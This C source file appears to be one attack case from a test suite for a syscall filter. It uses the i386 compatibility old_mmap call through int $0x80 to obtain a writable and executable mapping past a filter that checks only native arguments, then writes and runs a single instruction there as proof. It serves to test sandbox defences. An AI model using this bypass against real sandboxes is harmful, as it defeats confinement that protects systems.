/* The i386 ABI's old mmap (nr 90) takes its arguments from a struct in
 * memory, so a filter rule on the prot register means nothing there: if
 * i386 calls are filtered by name like native ones, this gets a writable
 * and executable mapping. The struct must sit below 4 GiB, where an
 * `int $0x80` pointer can reach. */
#include "attack.h"

#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#define I386_OLD_MMAP 90L

struct mmap_arg32 {
    uint32_t addr, len, prot, flags, fd, offset;
};

void atk_run(struct atk_outcome *o)
{
    long low = syscall(SYS_mmap, NULL, 4096UL, (long)(PROT_READ | PROT_WRITE),
                       (long)(MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT), -1L, 0L);
    if ((void *)low == MAP_FAILED) {
        atk_set(o, -1, errno);
        o->escaped = 0;
        snprintf(o->detail, sizeof o->detail, "no memory below 4 GiB to try with");
        return;
    }
    struct mmap_arg32 *arg = (struct mmap_arg32 *)low;
    *arg = (struct mmap_arg32){.len = 4096,
                               .prot = PROT_READ | PROT_WRITE | PROT_EXEC,
                               .flags = MAP_PRIVATE | MAP_ANONYMOUS,
                               .fd = UINT32_MAX};
    long ret;
    __asm__ volatile("int $0x80"
                     : "=a"(ret)
                     : "a"(I386_OLD_MMAP), "b"((long)(uintptr_t)arg)
                     : "r8", "r9", "r10", "r11", "memory");
    /* A compat call answers in 32 bits: errors are -4095..-1 there. */
    uint32_t r32 = (uint32_t)ret;
    if (r32 >= (uint32_t)-4095) {
        atk_set(o, -1, (int)-(int32_t)r32);
        return;
    }
    atk_set(o, (long)r32, 0);
    /* Prove it: write a `ret` instruction there and run it. */
    unsigned char *code = (unsigned char *)(uintptr_t)r32;
    void (*fn)(void);
    code[0] = 0xc3;
    memcpy(&fn, &code, sizeof fn);
    fn();
    snprintf(o->detail, sizeof o->detail, "RWX mapping at %#x; wrote and ran code there", r32);
}
